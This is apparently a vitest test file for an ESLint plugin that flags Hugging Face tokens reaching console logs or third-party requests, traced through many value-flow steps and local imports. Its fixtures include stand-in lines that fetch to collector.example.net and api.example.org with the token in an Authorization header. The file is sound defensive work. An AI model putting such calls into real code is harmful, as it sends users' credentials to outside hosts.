import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Linter } from "eslint";
import { afterAll, describe, expect, it } from "vitest";
import plugin from "../../src/index";
import { makeToken } from "../helpers/tokens";

/*
 * The value flow (src/ast/token-values.ts), one step kind at a time, through the two rules that
 * follow a token to where it goes: each case is reported with the token and quiet with an
 * unrelated value in the same place.
 */
const folder = mkdtempSync(join(tmpdir(), "hf-flow-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const TOKEN = makeToken(4242);
const config: Linter.Config[] = [
  {
    files: ["**/*.{js,mjs,ts}"],
    plugins: { "hf-secrets": plugin as never },
    rules: { "hf-secrets/no-token-logging": "error", "hf-secrets/no-token-to-third-party": "error" },
  },
];

function reports(code: string, file = "main.mjs"): string[] {
  const linter = new Linter({ cwd: folder });
  return linter.verify(code, config, { filename: join(folder, file) }).map((message) => message.ruleId ?? message.message);
}

/** `TOKEN_VALUE` stands for where the token comes from; the same program with `UNRELATED` must be quiet. */
const SEND = 'fetch("https://collector.example.net/x", { headers: { Authorization: SINK } });';
const LOG = "console.log(SINK);";

interface StepCase {
  readonly step: string;
  /** Code that defines `SINK` from `SOURCE`. */
  readonly code: string;
}

const STEPS: StepCase[] = [
  { step: "const", code: "const a = SOURCE; const SINK_ = a;" },
  { step: "let written once later", code: "let a; a = SOURCE; const SINK_ = a;" },
  { step: "object property read", code: "const o = { key: SOURCE }; const SINK_ = o.key;" },
  { step: "nested property read", code: "const o = { inner: { key: SOURCE } }; const SINK_ = o.inner.key;" },
  { step: "computed string key", code: 'const o = { key: SOURCE }; const SINK_ = o["key"];' },
  { step: "destructuring", code: "const o = { key: SOURCE }; const { key: SINK_ } = o;" },
  { step: "nested destructuring with default", code: "const o = { inner: {} }; const { inner: { key: SINK_ = SOURCE } } = o;" },
  { step: "array destructuring", code: "const list = [1, SOURCE]; const [, SINK_] = list;" },
  { step: "rest of an object", code: "const o = { key: SOURCE, other: 1 }; const { other, ...rest } = o; const SINK_ = rest.key;" },
  { step: "spread", code: "const o = { key: SOURCE }; const p = { ...o, more: 1 }; const SINK_ = p.key;" },
  { step: "template", code: "const SINK_ = `Bearer ${SOURCE}`;" },
  { step: "concatenation", code: 'const SINK_ = "Bearer " + SOURCE;' },
  { step: "fallback", code: 'const SINK_ = SOURCE ?? "";' },
  { step: "await", code: "const SINK_ = await Promise.resolve(0) && (await SOURCE);" },
  { step: "function return", code: "function read() { return SOURCE; } const SINK_ = read();" },
  { step: "arrow return", code: "const read = () => SOURCE; const SINK_ = read();" },
  { step: "returned object", code: "function settings() { return { key: SOURCE }; } const SINK_ = settings().key;" },
  { step: "parameter", code: "function pass(value) { return value; } const SINK_ = pass(SOURCE);" },
  { step: "destructured parameter", code: "const pass = ({ key }) => key; const SINK_ = pass({ key: SOURCE });" },
  { step: "parameter default", code: "function pass(value = SOURCE) { return value; } const SINK_ = pass();" },
  { step: "class field", code: "class Api { key = SOURCE; read() { return this.key; } } const SINK_ = new Api().key;" },
  { step: "field set in the constructor", code: "class Api { constructor(key) { this.key = key; } } const SINK_ = new Api(SOURCE).key;" },
  { step: "object created with it", code: "class Client { constructor(options) { this.options = options; } } const SINK_ = new Client({ key: SOURCE });" },
  { step: "pass-through call", code: "const SINK_ = String(SOURCE).trim();" },
  { step: "Node's util.format", code: 'const SINK_ = util.format("token=%s", SOURCE);' },
  { step: "text styled by a terminal-colour library", code: 'const colours = require("chalk"); const SINK_ = colours.bold.red(SOURCE);' },
  { step: "Node's util.styleText", code: 'const { styleText } = require("node:util"); const SINK_ = styleText("red", SOURCE);' },
  { step: "Headers filled by set", code: 'const SINK_ = new Headers(); SINK_.set("Authorization", SOURCE);' },
  { step: "URLSearchParams filled by append", code: 'const SINK_ = new URLSearchParams(); SINK_.append("token", SOURCE);' },
  { step: "FormData filled by append", code: 'const SINK_ = new FormData(); SINK_.append("name", "x"); SINK_.append("token", SOURCE);' },
];

const SOURCES = {
  "an env read": "process.env.HF_TOKEN",
  "a destructured env read": "HF_TOKEN",
  "a literal token": JSON.stringify(TOKEN),
  "Vite's loadEnv": "loaded.HF_TOKEN",
} as const;
const PREAMBLE: Record<keyof typeof SOURCES, string> = {
  "an env read": "",
  "a destructured env read": "const { HF_TOKEN } = process.env;",
  "a literal token": "",
  "Vite's loadEnv": 'import { loadEnv } from "vite";\nconst loaded = loadEnv("production", ".", "");',
};

function program(step: StepCase, source: string, preamble: string, sink: string): string {
  return [preamble, step.code.replaceAll("SOURCE", source).replaceAll("SINK_", "carried"), sink.replace("SINK", "carried")].join("\n");
}

describe("value flow: each step carries the token to a logger and a request", () => {
  for (const step of STEPS) {
    for (const [sourceName, source] of Object.entries(SOURCES) as Array<[keyof typeof SOURCES, string]>) {
      it(`${step.step}, from ${sourceName}`, () => {
        expect(reports(program(step, source, PREAMBLE[sourceName], LOG))).toEqual(["hf-secrets/no-token-logging"]);
        expect(reports(program(step, source, PREAMBLE[sourceName], SEND))).toEqual(["hf-secrets/no-token-to-third-party"]);
      });
    }
    it(`${step.step}, from an unrelated value: quiet`, () => {
      expect(reports(program(step, "process.env.PORT", "", LOG))).toEqual([]);
      expect(reports(program(step, '"hello world"', "", SEND))).toEqual([]);
    });
  }
});

describe("value flow: what hides the token carries none", () => {
  it.each([
    ["its length", "const a = process.env.HF_TOKEN; console.log(a.length);"],
    ["a comparison", 'const a = process.env.HF_TOKEN; console.log(a === "x");'],
    ["a slice", "const a = process.env.HF_TOKEN; console.log(a.slice(0, 4));"],
    ["another key of the same object", 'const o = { key: process.env.HF_TOKEN, model: "gpt2" }; console.log(o.model);'],
    ["a later masking write", "let a = process.env.HF_TOKEN; a = mask(a); console.log(a);"],
    ["another argument of the same function", 'function two(a, b) { console.log(b); } two(process.env.HF_TOKEN, "x");'],
    ["another field of the same class", 'class Api { constructor(t) { this.token = t; this.name = "x"; } log() { console.log(this.name); } } new Api(process.env.HF_TOKEN);'],
    ["a function's other return", "function f() { return 1; } const x = process.env.HF_TOKEN; console.log(f());"],
  ])("%s", (_name, code) => {
    expect(reports(code)).toEqual([]);
  });
});

describe("value flow: class fields read as this.field", () => {
  it.each([
    ["a field initialiser", "class Api { token = process.env.HF_TOKEN; log() { console.log(this.token); } }"],
    ["an assignment in the constructor", "class Api { constructor() { this.token = process.env.HF_TOKEN; } log() { console.log(this.token); } }"],
    ["a constructor argument", "class Api { constructor(token) { this.token = token; } log() { console.log(this.token); } } new Api(process.env.HF_TOKEN);"],
    ["inside an arrow in a method", "class Api { constructor(t) { this.t = t; } run() { return [1].map(() => console.log(this.t)); } } new Api(process.env.HF_TOKEN);"],
  ])("%s", (_name, code) => {
    expect(reports(code)).toEqual(["hf-secrets/no-token-logging"]);
  });

  // One walk of a class answers every key asked of it: each key keeps its own writes.
  it("each field of a class carries what its own writes give it, whichever is asked first", () => {
    const code = [
      "class Api {",
      '  constructor() { this.name = "gpt2"; this.size = 3; }',
      "  start() { this.token = process.env.HF_TOKEN; this.other = 1; }",
      "  log() { console.log(this.name); console.log(this.size); console.log(this.token); console.log(this.other); }",
      "}",
    ].join("\n");
    const linter = new Linter({ cwd: folder });
    const messages = linter.verify(code, config, { filename: join(folder, "fields.mjs") });
    expect(messages.map((message) => [message.ruleId, message.line, message.column])).toEqual([["hf-secrets/no-token-logging", 4, 71]]);
  });

  it("a write to the same field in a class written later in the file does not count", () => {
    const code = "class Api { log() { console.log(this.token); } }\nclass Other { constructor() { this.token = process.env.HF_TOKEN; } }";
    expect(reports(code)).toEqual([]);
  });

  // The class walk reads the children the parser's visitor keys name, and a node's own properties where they name none (as ESLint's traversal does).
  it.each([
    ["the parser's visitor keys", (keys: Record<string, readonly string[]>) => keys],
    ["none for the statements around the write", (keys: Record<string, readonly string[]>) => {
      const { IfStatement: _if, TryStatement: _try, BlockStatement: _block, ...rest } = keys;
      return rest;
    }],
  ])("finds a write nested in statements, with %s", async (_name, visitorKeysOf) => {
    const typescript = await import("@typescript-eslint/parser");
    const parser = {
      parseForESLint: (code: string, options: Record<string, unknown>) => {
        const parsed = typescript.parseForESLint(code, options);
        return { ...parsed, visitorKeys: visitorKeysOf(parsed.visitorKeys as Record<string, readonly string[]>) };
      },
    };
    const code = [
      "class Api {",
      "  constructor(ready: boolean) { try { if (ready) { this.token = process.env.HF_TOKEN as string; } } catch {} }",
      "  log(): void { console.log(this.token); }",
      "}",
    ].join("\n");
    const linter = new Linter({ cwd: folder });
    const messages = linter.verify(code, [{ ...config[0], files: ["**/*.ts"], languageOptions: { parser: parser as never } }], { filename: join(folder, "walk.ts") });
    expect(messages.map((message) => [message.ruleId, message.line])).toEqual([["hf-secrets/no-token-logging", 3]]);
  });

  it("TypeScript parameter properties", async () => {
    const parser = await import("@typescript-eslint/parser");
    const linter = new Linter({ cwd: folder });
    const code = "class Api { constructor(private readonly token: string) {} log(): void { console.log(this.token); } }\nnew Api(process.env.HF_TOKEN!);";
    const messages = linter.verify(code, [{ ...config[0], files: ["**/*.ts"], languageOptions: { parser: parser as never } }], { filename: join(folder, "api.ts") });
    expect(messages.map((message) => message.ruleId)).toEqual(["hf-secrets/no-token-logging"]);
  });
});

describe("value flow: local modules", () => {
  const modules: Record<string, string> = {
    "config.mjs": "export const hfToken = process.env.HF_TOKEN;\nexport const model = 'gpt2';\n",
    "settings.ts": "export default {\n  token: process.env.HUGGING_FACE_HUB_TOKEN!,\n  model: 'gpt2',\n};\n",
    "secrets.cjs": "module.exports = { hfKey: process.env.HF_API_KEY, region: 'eu' };\n",
    "named.mjs": "const token = import.meta.env.HF_TOKEN;\nconst port = 3000;\nexport { token as apiToken, port };\n",
    "getter.ts": "export function getToken(): string {\n  return process.env.HF_TOKEN ?? '';\n}\n",
    "literal.mjs": `export const TOKEN = ${JSON.stringify(TOKEN)};\n`,
  };
  for (const [name, text] of Object.entries(modules)) writeFileSync(join(folder, name), text);

  it.each([
    ["a named import", 'import { hfToken } from "./config.mjs"; console.log(hfToken);'],
    ["a renamed import", 'import { hfToken as t } from "./config.mjs"; console.log(t);'],
    ["a default import's key", 'import settings from "./settings"; console.log(settings.token);'],
    ["a default import's key, through TypeScript's .js", 'import settings from "./settings.js"; console.log(settings.token);'],
    ["a namespace import", 'import * as cfg from "./config.mjs"; console.log(cfg.hfToken);'],
    ["require and a key", 'const secrets = require("./secrets.cjs"); console.log(secrets.hfKey);'],
    ["destructured require", 'const { hfKey } = require("./secrets.cjs"); console.log(hfKey);'],
    ["an export list with a rename", 'import { apiToken } from "./named.mjs"; console.log(apiToken);'],
    ["an exported function's return", 'import { getToken } from "./getter"; console.log(getToken());'],
    ["an exported literal token", 'import { TOKEN } from "./literal.mjs"; console.log(TOKEN);'],
  ])("%s", (_name, code) => {
    expect(reports(code)).toEqual(["hf-secrets/no-token-logging"]);
  });

  it.each([
    ["another export", 'import { model } from "./config.mjs"; console.log(model);'],
    ["another key of the default export", 'import settings from "./settings"; console.log(settings.model);'],
    ["another key of module.exports", 'const { region } = require("./secrets.cjs"); console.log(region);'],
    ["another name in an export list", 'import { port } from "./named.mjs"; console.log(port);'],
    ["a package, never read", 'import { hfToken } from "config"; console.log(hfToken);'],
    ["a module that does not exist", 'import { hfToken } from "./missing"; console.log(hfToken);'],
  ])("quiet: %s", (_name, code) => {
    expect(reports(code)).toEqual([]);
  });

  it("sends an imported token to a third-party host", () => {
    expect(reports('import { hfToken } from "./config.mjs";\nawait fetch("https://api.example.org", { headers: { Authorization: `Bearer ${hfToken}` } });')).toEqual([
      "hf-secrets/no-token-to-third-party",
    ]);
  });
});
